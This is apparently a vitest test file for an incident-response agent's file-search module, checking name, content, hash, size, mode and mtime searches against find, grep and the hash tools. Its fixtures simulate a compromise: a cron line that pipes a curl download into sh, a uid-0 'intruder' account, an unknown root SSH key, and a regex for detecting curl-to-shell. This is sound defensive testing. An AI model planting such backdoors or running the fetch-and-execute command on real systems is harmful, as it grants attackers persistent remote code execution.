import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { fileModule } from "../../agent/modules/file/index.js";
import { silentLogger } from "../../common/mod.js";
import type { FileParams, FileResult } from "../../proto/api.js";
import { fileSearch, type SearchInput } from "../helpers/actions.js";
import { tempDir } from "../helpers/fleet.js";

// Every criterion and option of the file module on a tree made here, each
// expected answer taken from the system's own tools (find, grep, the *sum
// tools, openssl, zcat) rather than from the module.

let root: string;
const KNOWN_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKnownKnownKnown ops@example";
const UNKNOWN_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIntruderIntruder x@evil";

function search(s: SearchInput): FileParams {
  return { searches: [fileSearch({ label: "s1", paths: [root], ...s })] };
}

async function run(params: FileParams): Promise<FileResult> {
  fileModule.check(params);
  const out = await fileModule.run(params, {
    signal: new AbortController().signal,
    log: silentLogger,
    stateDir: root,
  });
  return out.result;
}

const paths = (r: FileResult) => r.matches.map((m) => m.path).sort();

function sh(cmd: string, args: string[], env: Record<string, string> = {}): string[] {
  return execFileSync(cmd, args, { encoding: "utf8", env: { ...process.env, ...env }, maxBuffer: 1 << 28 })
    .split("\n")
    .filter(Boolean);
}

/**
 * find ROOT -xtype f plus extra find predicates, sorted. find exits 1 over the
 * fixture's symlink loop (it says so on stderr) but still lists everything else.
 */
function find(...predicates: string[]): string[] {
  return findIn(root, ...predicates);
}
function findIn(dir: string, ...predicates: string[]): string[] {
  const r = spawnSync("find", [dir, "-xtype", "f", ...predicates], { encoding: "utf8" });
  if (r.status !== 0 && !/Too many levels of symbolic links/.test(r.stderr)) throw new Error(r.stderr);
  return r.stdout.split("\n").filter(Boolean).sort();
}

/** The files (of find -xtype f) GNU grep -l lists for an extended regex, bytewise. */
function grepL(pattern: string, flag = "-l"): string[] {
  const files = find();
  try {
    return sh("grep", [flag, "-E", "-e", pattern, "--", ...files], { LC_ALL: "C" }).sort();
  } catch (err) {
    // grep exits 1 when nothing matched.
    if ((err as { status?: number }).status === 1) return [];
    throw err;
  }
}

beforeAll(() => {
  root = tempDir("dragnet-search-");
  const files: Record<string, string | Buffer> = {
    "a.conf": "alpha\n",
    "b.txt": "bravo\nsecond line\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nintruder:x:0:0::/tmp:/bin/sh\n",
    "etc/cron.d/updater": "*/5 * * * * root curl -s http://203.0.113.7/x | sh\n",
    "etc/cron.d/backup": "0 3 * * * root /usr/local/bin/backup\n",
    "home/ops/.ssh/authorized_keys": `# ops\n${KNOWN_KEY}\n`,
    "root/.ssh/authorized_keys": `${KNOWN_KEY}\n${UNKNOWN_KEY}\n`,
    "kb/three-k.bin": Buffer.alloc(3072, 0x41),
    "kb/one-k.bin": Buffer.alloc(1024, 0x42),
    "old/same.txt": "alpha\n",
    "logs/auth.log": "nothing here\n",
    "logs/auth.log.1.gz": gzipSync("Accepted password for root from 203.0.113.7\n"),
    "unicode/grüße.txt": "Grüße aus Köln\n",
    "mixed/CaseFile.TXT": "Needle\n",
    "empty/empty.txt": "",
  };
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(join(root, rel, ".."), { recursive: true });
    writeFileSync(join(root, rel), content);
  }
  // One very long line: the needle sits 3 MiB in, far past any fixed line buffer.
  mkdirSync(join(root, "long"));
  writeFileSync(
    join(root, "long/one-line.txt"),
    `${"x".repeat(3 * 1024 * 1024)}NEEDLE-IN-LONG-LINE${"y".repeat(1000)}`,
  );
  // Lines across the 1 MiB read boundary: a needle cut in two, and a line whose start is in the
  // first read and whose needle is in the second (the first read alone holds no needle).
  const mib = 1024 * 1024;
  mkdirSync(join(root, "seams"));
  writeFileSync(join(root, "seams/cut.txt"), `${"a".repeat(mib - 3)}SEAMNEEDLE\n`);
  writeFileSync(join(root, "seams/spread.txt"), `head\nstart-of-line ${"b".repeat(mib)} LATENEEDLE\n`);
  // Cut by the second boundary, on a line begun in the first read (its partial line carried for two reads).
  writeFileSync(join(root, "seams/long-cut.txt"), `${"c".repeat(2 * mib - 5)}LONGSEAMNEEDLE\n`);
  chmodSync(join(root, "b.txt"), 0o755);
  chmodSync(join(root, "etc/passwd"), 0o600);
  const tenDaysAgo = Date.now() / 1000 - 10 * 86_400;
  utimesSync(join(root, "old/same.txt"), tenDaysAgo, tenDaysAgo);
  symlinkSync(join(root, "etc/passwd"), join(root, "link-to-passwd"));
  symlinkSync(join(root, "etc"), join(root, "link-to-etc"));
  symlinkSync(join(root, "nowhere"), join(root, "broken-link"));
  symlinkSync(join(root, "loop-b"), join(root, "loop-a"));
  symlinkSync(join(root, "loop-a"), join(root, "loop-b"));
}, 30_000);

describe("file search criteria", () => {
  it("content: the files grep -l lists, and !content the files grep -L lists", async () => {
    // (Anchors stay off binary files here: GNU grep may end lines at NUL bytes there; lines end at \n only.)
    for (const pattern of [
      "curl[^|]*[|] *(ba)?sh",
      "^root:",
      "alpha",
      "^second line$",
      "NEEDLE-IN-LONG-LINE",
    ]) {
      const expected = grepL(pattern);
      expect(expected.length, pattern).toBeGreaterThan(0);
      expect(paths(await run(search({ contents: [pattern] }))), pattern).toEqual(expected);
      expect(paths(await run(search({ contents: [`!${pattern}`] }))), `!${pattern}`).toEqual(
        grepL(pattern, "-L"),
      );
    }
  });

  it("content finds needles cut by a read boundary, and lines that start a read before their needle", async () => {
    expect(paths(await run(search({ contents: ["SEAMNEEDLE"] })))).toEqual(grepL("SEAMNEEDLE"));
    expect(grepL("LONGSEAMNEEDLE")).toEqual([join(root, "seams/long-cut.txt")]);
    expect(paths(await run(search({ contents: ["LONGSEAMNEEDLE"] })))).toEqual([
      join(root, "seams/long-cut.txt"),
    ]);
    expect(paths(await run(search({ contents: ["^c+LONGSEAMNEEDLE$"] })))).toEqual([
      join(root, "seams/long-cut.txt"),
    ]);
    expect(grepL("^start-of-line b+ LATENEEDLE$")).toEqual([join(root, "seams/spread.txt")]);
    expect(paths(await run(search({ contents: ["^start-of-line b+ LATENEEDLE$"] })))).toEqual([
      join(root, "seams/spread.txt"),
    ]);
    expect(paths(await run(search({ contents: ["^b+ LATENEEDLE$"] })))).toEqual(grepL("^b+ LATENEEDLE$"));
  });

  it("content finds a match 3 MiB into a single line, and reports the read", async () => {
    const r = await run(search({ contents: ["NEEDLE-IN-LONG-LINE"], names: ["^one-line"] }));
    expect(paths(r)).toEqual([join(root, "long/one-line.txt")]);
    expect(r.stats!.filesRead).toBe(1);
    expect(r.stats!.bytesRead).toBeGreaterThanOrEqual(3 * 1024 * 1024);
  });

  it("content with non-ASCII patterns matches UTF-8 text; (?i) makes a regex case-insensitive", async () => {
    expect(paths(await run(search({ contents: ["Grüße aus"] })))).toEqual([join(root, "unicode/grüße.txt")]);
    expect(paths(await run(search({ contents: ["(?i)^needle$"] })))).toEqual([
      join(root, "mixed/CaseFile.TXT"),
    ]);
    expect(paths(await run(search({ names: ["(?i)\\.txt$"], contents: ["Needle"] })))).toEqual([
      join(root, "mixed/CaseFile.TXT"),
    ]);
  });

  it("Go regex syntax from MIG actions: \\A, \\z and POSIX classes translated; \\Q and \\p refused", async () => {
    expect(paths(await run(search({ contents: ["\\Aroot:x:0:0:root:/root:/bin/bash\\z"] })))).toEqual(
      grepL("^root:x:0:0:root:/root:/bin/bash$"),
    );
    expect(paths(await run(search({ contents: ["[[:digit:]]{3}[.][[:digit:]]+[.]"] })))).toEqual(
      grepL("[[:digit:]]{3}[.][[:digit:]]+[.]"),
    );
    expect(paths(await run(search({ names: ["^[^[:upper:]]+\\.TXT$"] })))).toEqual([]);
    expect(paths(await run(search({ names: ["^[[:upper:]][[:alpha:]]+\\.TXT$"] })))).toEqual([
      join(root, "mixed/CaseFile.TXT"),
    ]);
    expect(() => fileModule.check(search({ contents: ["\\Qa.b\\E"] }))).toThrow(
      /\\Q \(Go\/PCRE syntax\) is not supported/,
    );
    expect(() => fileModule.check(search({ names: ["\\pL+"] }))).toThrow(
      /\\p \(Go\/PCRE syntax\) is not supported/,
    );
  });

  it("macroal: every line must match; with mismatch content it finds authorized_keys holding an unknown key", async () => {
    const ours = `^(#.*|${KNOWN_KEY.replace(/[.+]/g, "\\$&")})$`;
    const keys = { names: ["^authorized_keys$"], contents: [ours] };
    // Without macroal both files have a line that matches.
    expect(paths(await run(search(keys)))).toEqual(
      find("-name", "authorized_keys").filter((p) => sh("grep", ["-l", "-E", ours, p]).length > 0),
    );
    // Every line ours: only the ops file (grep -v finds no other line in it).
    const allOurs = find("-name", "authorized_keys").filter((p) => {
      try {
        execFileSync("grep", ["-v", "-E", ours, p]);
        return false;
      } catch {
        return true;
      }
    });
    expect(allOurs).toEqual([join(root, "home/ops/.ssh/authorized_keys")]);
    expect(paths(await run(search({ ...keys, options: { macroal: true } })))).toEqual(allOurs);
    expect(paths(await run(search({ ...keys, options: { macroal: true, mismatch: ["content"] } })))).toEqual([
      join(root, "root/.ssh/authorized_keys"),
    ]);
  });

  it("sizes: N, <N, >N with k suffixes, as find -size counts bytes", async () => {
    expect(paths(await run(search({ sizes: [">2k"] })))).toEqual(find("-size", "+2048c"));
    expect(paths(await run(search({ sizes: ["<1k"] })))).toEqual(find("-size", "-1024c"));
    expect(paths(await run(search({ sizes: ["3k"] })))).toEqual(find("-size", "3072c"));
    // Two bounds under matchall: a range.
    expect(paths(await run(search({ sizes: [">1000", "<2k"] })))).toEqual(
      find("-size", "+1000c", "-size", "-2048c"),
    );
  });

  it("modes: a regex on the ls-style mode of the file (the target's, for a symlink)", async () => {
    const byMode = (re: RegExp) =>
      find()
        .filter((p) => re.test(sh("stat", ["-L", "-c", "%A", p])[0]!))
        .sort();
    expect(paths(await run(search({ modes: ["^-rwxr-xr-x$"] })))).toEqual(byMode(/^-rwxr-xr-x$/));
    const secret = byMode(/^-rw-------$/);
    expect(secret).toEqual([join(root, "etc/passwd"), join(root, "link-to-passwd")]);
    expect(paths(await run(search({ modes: ["^-rw-------$"] })))).toEqual(secret);
    expect(paths(await run(search({ modes: ["!^-rw-r--r--$"] })))).toEqual(byMode(/^(?!-rw-r--r--$)/));
  });

  it("mtimes: <N modified within, >N older than, as find -mtime", async () => {
    expect(paths(await run(search({ mtimes: [">5d"] })))).toEqual(find("-mtime", "+5"));
    expect(paths(await run(search({ mtimes: ["<1d"] })))).toEqual(find("-mtime", "-1"));
    expect(paths(await run(search({ mtimes: ["<48h"] })))).toEqual(find("-mmin", "-2880"));
  });

  it("every hash algorithm: criteria and returned digests agree with the system's tools", async () => {
    const target = join(root, "a.conf");
    const tool: Record<string, (p: string) => string> = {
      md5: (p) => sh("md5sum", [p])[0]!.split(" ")[0]!,
      sha1: (p) => sh("sha1sum", [p])[0]!.split(" ")[0]!,
      sha256: (p) => sh("sha256sum", [p])[0]!.split(" ")[0]!,
      sha384: (p) => sh("sha384sum", [p])[0]!.split(" ")[0]!,
      sha512: (p) => sh("sha512sum", [p])[0]!.split(" ")[0]!,
      sha3_224: (p) => sh("openssl", ["dgst", "-sha3-224", "-r", p])[0]!.split(" ")[0]!,
      sha3_256: (p) => sh("openssl", ["dgst", "-sha3-256", "-r", p])[0]!.split(" ")[0]!,
      sha3_384: (p) => sh("openssl", ["dgst", "-sha3-384", "-r", p])[0]!.split(" ")[0]!,
      sha3_512: (p) => sh("openssl", ["dgst", "-sha3-512", "-r", p])[0]!.split(" ")[0]!,
    };
    const field = (h: string) => h.replace("_", "") as "md5";
    const sameContent = find().filter((p) => tool.sha256!(p) === tool.sha256!(target));
    expect(sameContent.length).toBe(2);
    for (const [h, digest] of Object.entries(tool)) {
      const r = await run(search({ [field(h)]: [digest(target).toUpperCase()] }));
      expect(paths(r), h).toEqual(sameContent);
      for (const m of r.matches) expect(m[field(h)], h).toBe(digest(m.path));
    }
    const all = await run(search({ names: ["^a\\.conf$"], options: { returnHashes: Object.keys(tool) } }));
    for (const [h, digest] of Object.entries(tool)) expect(all.matches[0]![field(h)], h).toBe(digest(target));
  });

  it("a hash list is a set: a file matches with any of its digests, and mismatch finds the rest", async () => {
    const alpha = sh("sha256sum", [join(root, "a.conf")])[0]!.split(" ")[0]!;
    const bravo = sh("sha256sum", [join(root, "b.txt")])[0]!.split(" ")[0]!;
    const hits = await run(search({ sha256: [alpha, bravo] }));
    expect(paths(hits)).toEqual(
      find().filter((p) => [alpha, bravo].includes(sh("sha256sum", [p])[0]!.split(" ")[0]!)),
    );
    const rest = await run(search({ sha256: [alpha, bravo], options: { mismatch: ["sha256"] } }));
    expect(paths(rest)).toEqual(find().filter((p) => !paths(hits).includes(p)));
  });

  it("matchall (default) needs every check; matchany any one; mismatch inverts a kind", async () => {
    const names = { names: ["^a\\.conf$"], contents: ["^bravo$"] };
    expect(paths(await run(search(names)))).toEqual([]);
    expect(paths(await run(search({ ...names, options: { matchAny: true } })))).toEqual(
      [...new Set([...find("-name", "a.conf"), ...grepL("^bravo$")])].sort(),
    );
    // Several name regexes under matchall: all must hold (a .txt that is not b.txt).
    expect(paths(await run(search({ names: ["\\.txt$", "!^b\\.txt$"] })))).toEqual(
      find("-name", "*.txt", "!", "-name", "b.txt"),
    );
    expect(paths(await run(search({ names: ["\\.txt$"], options: { mismatch: ["name"] } })))).toEqual(
      find("!", "-name", "*.txt"),
    );
    expect(paths(await run(search({ sizes: [">2k"], options: { mismatch: ["size"] } })))).toEqual(
      find("!", "-size", "+2048c"),
    );
  });

  it("decompress: gzip files are searched (and hashed) decompressed, per search", async () => {
    const gz = join(root, "logs/auth.log.1.gz");
    const content = { paths: [join(root, "logs")], contents: ["203\\.0\\.113\\.7"] };
    expect(paths(await run(search(content)))).toEqual([]);
    expect(paths(await run(search({ ...content, options: { decompress: true } })))).toEqual([gz]);
    const zcatSum = execFileSync("sh", ["-c", `zcat '${gz}' | sha256sum`], { encoding: "utf8" }).split(
      " ",
    )[0];
    const hashed = await run(
      search({ paths: [gz], options: { decompress: true, returnHashes: ["sha256"] } }),
    );
    expect(hashed.matches[0]!.sha256).toBe(zcatSum);
    // Another search in the same operation, without decompress, sees the compressed bytes.
    const both = await run({
      searches: [
        fileSearch({ label: "plain", paths: [gz], options: { returnHashes: ["sha256"] } }),
        fileSearch({
          label: "unzipped",
          paths: [gz],
          options: { decompress: true, returnHashes: ["sha256"] },
        }),
      ],
    });
    expect(both.matches.map((m) => [m.search, m.sha256])).toEqual([
      ["plain", sh("sha256sum", [gz])[0]!.split(" ")[0]],
      ["unzipped", zcatSum],
    ]);
  });
});

describe("file search walking", () => {
  it("symlinks: files followed (target reported), directories warned about, broken links and loops skipped", async () => {
    const r = await run(search({}));
    expect(paths(r)).toEqual(find());
    expect(r.matches.find((m) => m.path.endsWith("link-to-passwd"))!.target).toBe(join(root, "etc/passwd"));
    expect(r.warnings).toEqual([`${join(root, "link-to-etc")}: symlink to a directory, not descended`]);
    expect(r.stats!.warningsTotal).toBe(1);
    expect(r.errors).toEqual([]);
  });

  it("duplicate and nested roots: every file examined and reported once", async () => {
    const r = await run(search({ paths: [root, join(root, "etc"), `${root}/`, join(root, "etc/cron.d")] }));
    expect(paths(r)).toEqual(find());
    expect(r.stats!.filesExamined).toBe(find().length);
  });

  it("a nested root gets its own depth: what the outer walk is too shallow for is still searched", async () => {
    const r = await run(search({ paths: [root, join(root, "home")], options: { maxDepth: 1 } }));
    const expected = [...findIn(root, "-maxdepth", "2"), ...findIn(join(root, "home"), "-maxdepth", "2")];
    expect(paths(r)).toEqual([...new Set(expected)].sort());
  });

  it("several searches in one operation: each its own label and match limit", async () => {
    const r = await run({
      searches: [
        fileSearch({ label: "one", paths: [root], options: { matchLimit: 1 } }),
        fileSearch({ label: "three", paths: [root], options: { matchLimit: 3 } }),
        fileSearch({ label: "cron", paths: [join(root, "etc/cron.d")], contents: ["curl"] }),
      ],
    });
    const count = (label: string) => r.matches.filter((m) => m.search === label).length;
    expect([count("one"), count("three"), count("cron")]).toEqual([1, 3, 1]);
    expect(r.stats!.truncated).toBe(true);
  });

  it("a file that cannot be read is an error in the result; the rest of the search goes on", async () => {
    const dir = tempDir("dragnet-unreadable-");
    // gzip's magic bytes, then garbage: decompressing it fails.
    writeFileSync(join(dir, "broken.gz"), Buffer.from([0x1f, 0x8b, 0x08, 0, 1, 2, 3, 4, 5, 6, 7]));
    writeFileSync(join(dir, "fine.txt"), "fine\n");
    const r = await run(search({ paths: [dir], options: { decompress: true, returnHashes: ["sha256"] } }));
    expect(paths(r)).toEqual([join(dir, "fine.txt")]);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatch(new RegExp(`^${join(dir, "broken.gz")}: not decompressed: `));
    expect(r.stats!.openFailures).toBe(1);
  });

  it("files on /proc are searched by name and metadata but never read (a read can block or consume)", async () => {
    const dir = tempDir("dragnet-proc-");
    symlinkSync("/proc/self/status", join(dir, "status-link"));
    const byName = await run(search({ paths: ["/proc/self/status", dir] }));
    expect(paths(byName)).toEqual(["/proc/self/status", join(dir, "status-link")]);
    const read = await run(search({ paths: ["/proc/self/status", dir], contents: ["^Name:"] }));
    expect(paths(read)).toEqual([]);
    expect(read.warnings).toHaveLength(2);
    for (const w of read.warnings)
      expect(w).toMatch(/on a pseudo filesystem \(proc, debugfs, tracefs\), not read$/);
    expect(read.stats!.filesRead).toBe(0);
  });

  it("a line over 16 MiB is an error for that file, not a silent miss; hashes still work", async () => {
    const dir = tempDir("dragnet-longline-");
    const huge = join(dir, "huge.txt");
    writeFileSync(huge, Buffer.alloc(17 * 1024 * 1024, 0x78));
    const r = await run(search({ paths: [dir], contents: ["needle"] }));
    expect(r.errors).toEqual([`${huge}: a line longer than 16 MiB: content not searched`]);
    const sum = execFileSync("sha256sum", [huge], { encoding: "utf8" }).split(" ")[0];
    const hashed = await run(search({ paths: [dir], options: { returnHashes: ["sha256"] } }));
    expect(hashed.matches[0]!.sha256).toBe(sum);
  });

  it("a file root inside a directory root is reported once; a root linking to a directory is searched", async () => {
    const r = await run(search({ paths: [join(root, "etc"), join(root, "etc/passwd")] }));
    expect(paths(r)).toEqual(findIn(join(root, "etc")));
    const viaLink = await run(search({ paths: [join(root, "link-to-etc")] }));
    expect(paths(viaLink)).toEqual(
      findIn(join(root, "etc")).map((p) => p.replace(`${root}/etc`, `${root}/link-to-etc`)),
    );
  });

  it("a symlink's target is reported resolved (absolute), as the file that was read", async () => {
    const dir = tempDir("dragnet-relative-");
    writeFileSync(join(dir, "real.txt"), "real\n");
    symlinkSync("real.txt", join(dir, "rel-link"));
    const r = await run(search({ paths: [join(dir, "rel-link")] }));
    expect(r.matches.map((m) => m.target)).toEqual([join(dir, "real.txt")]);
  });

  it("the match limit met partway through a directory says the search was truncated", async () => {
    const r = await run(search({ paths: [join(root, "etc/cron.d")], options: { matchLimit: 1 } }));
    expect(r.matches).toHaveLength(1);
    expect(r.stats!.truncated).toBe(true);
    const all = await run(search({ paths: [join(root, "etc/cron.d")], options: { matchLimit: 2 } }));
    expect([all.matches.length, all.stats!.truncated]).toEqual([2, false]);
  });

  it("a cancelled search stops promptly, and the next search runs", async () => {
    const controller = new AbortController();
    const params = search({ paths: ["/usr"], options: { returnHashes: ["sha256"], matchLimit: 1_000_000 } });
    const started = Date.now();
    const running = fileModule.run(params, { signal: controller.signal, log: silentLogger, stateDir: root });
    setTimeout(() => controller.abort(new Error("cancelled by test")), 300);
    await expect(running).rejects.toThrow("cancelled by test");
    expect(Date.now() - started).toBeLessThan(3000);
    expect(paths(await run(search({ paths: [join(root, "a.conf")] })))).toEqual([join(root, "a.conf")]);
  });

  it("errors are capped by maxerrors and counted in full", async () => {
    const missing = Array.from({ length: 5 }, (_, i) => join(root, `missing-${i}`));
    const r = await run(search({ paths: missing, options: { maxErrors: 2 } }));
    // Roots are searched in parallel: which two are kept depends on which answered first.
    expect(r.errors).toHaveLength(2);
    for (const e of r.errors) expect(missing.map((m) => `${m}: does not exist`)).toContain(e);
    expect(new Set(r.errors).size).toBe(2);
    expect(r.stats!.errorsTotal).toBe(5);
  });

  it("refuses malformed criteria before touching a file, naming the search and the value", () => {
    const refusal = (s: SearchInput) => {
      try {
        fileModule.check(search(s));
      } catch (err) {
        return (err as Error).message;
      }
      return "accepted";
    };
    expect(refusal({ sizes: ["1x"] })).toMatch(/search "s1": size "1x"/);
    expect(refusal({ mtimes: ["2d"] })).toMatch(/mtime "2d" is not <N/);
    expect(refusal({ md5: ["0".repeat(64)] })).toMatch(/not a md5 digest \(32 hex digits\)/);
    expect(refusal({ contents: ["(unclosed"] })).toMatch(/content regex "\(unclosed" does not compile/);
    expect(refusal({ modes: ["["] })).toMatch(/mode regex/);
    expect(refusal({ options: { mismatch: ["colour"] } })).toMatch(/cannot mismatch "colour"/);
    expect(refusal({ options: { returnHashes: ["crc32"] } })).toMatch(/cannot return hash "crc32"/);
    expect(refusal({ sizes: ["<10k"], mtimes: [">1h"], modes: ["^-"] })).toBe("accepted");
  });
});

describe("file search against this machine", () => {
  it("a name search over /usr/lib returns exactly what find -xtype f -regex finds", async () => {
    const expected = sh("find", [
      "/usr/lib",
      "-regextype",
      "posix-extended",
      "-regex",
      ".*/[^/]*\\.so\\.[0-9]+",
      "-xtype",
      "f",
    ]).sort();
    expect(expected.length).toBeGreaterThan(10);
    const r = await run({
      searches: [
        fileSearch({ paths: ["/usr/lib"], names: ["\\.so\\.[0-9]+$"], options: { matchLimit: 1_000_000 } }),
      ],
    });
    expect(paths(r)).toEqual(expected);
  }, 60_000);

  it("a hash search over /usr/share/doc returns exactly the files whose sha256sum matches", async () => {
    const files = sh("find", ["/usr/share/doc", "-xtype", "f"]);
    const sums = sh("sha256sum", files).map((l) => [l.slice(0, 64), l.slice(66)] as const);
    // The most common digest: a licence text many packages ship.
    const tally = new Map<string, number>();
    for (const [h] of sums) tally.set(h, (tally.get(h) ?? 0) + 1);
    const [digest] = [...tally].sort((a, b) => b[1] - a[1])[0]!;
    const expected = sums
      .filter(([h]) => h === digest)
      .map(([, p]) => p)
      .sort();
    expect(expected.length).toBeGreaterThan(1);
    const r = await run({
      searches: [
        fileSearch({ paths: ["/usr/share/doc"], sha256: [digest], options: { matchLimit: 1_000_000 } }),
      ],
    });
    expect(paths(r)).toEqual(expected);
  }, 60_000);

  it("a content search over /usr/share/doc returns exactly grep -l's files", async () => {
    const files = sh("find", ["/usr/share/doc", "-xtype", "f"]);
    const pattern = "[Pp]ermission is hereby granted";
    const expected = sh("grep", ["-l", "-E", "-e", pattern, "--", ...files], { LC_ALL: "C" }).sort();
    expect(expected.length).toBeGreaterThan(0);
    const r = await run({
      searches: [
        fileSearch({ paths: ["/usr/share/doc"], contents: [pattern], options: { matchLimit: 1_000_000 } }),
      ],
    });
    expect(paths(r)).toEqual(expected);
  }, 60_000);
});
